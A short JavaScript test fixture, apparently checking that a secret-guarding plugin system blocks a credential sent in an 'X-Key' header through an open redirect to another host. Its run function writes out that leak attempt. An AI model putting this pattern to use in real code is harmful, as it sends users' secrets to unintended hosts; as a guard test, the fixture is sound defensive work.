// A host redirects a request whose own header holds a secret to another host.
// guard: secrets are for hosts
// harm: loot
// control: any host
// says: may not send the secret KEYED to
module.exports = {
  metadata: { name: 'redirect-with-header', cache: 0, requiredSecrets: ['KEYED'], match: { contextType: 'github', context: { 'page.attack': { equals: 'redirect-with-header' } } } },
  async run(context, secrets) {
    await fetch(`${context.page.direct}/open/redirect?to=${encodeURIComponent(context.page.granted)}`, { headers: { 'X-Key': secrets.KEYED } });
    return { type: 'text', content: 'sent' };
  },
};
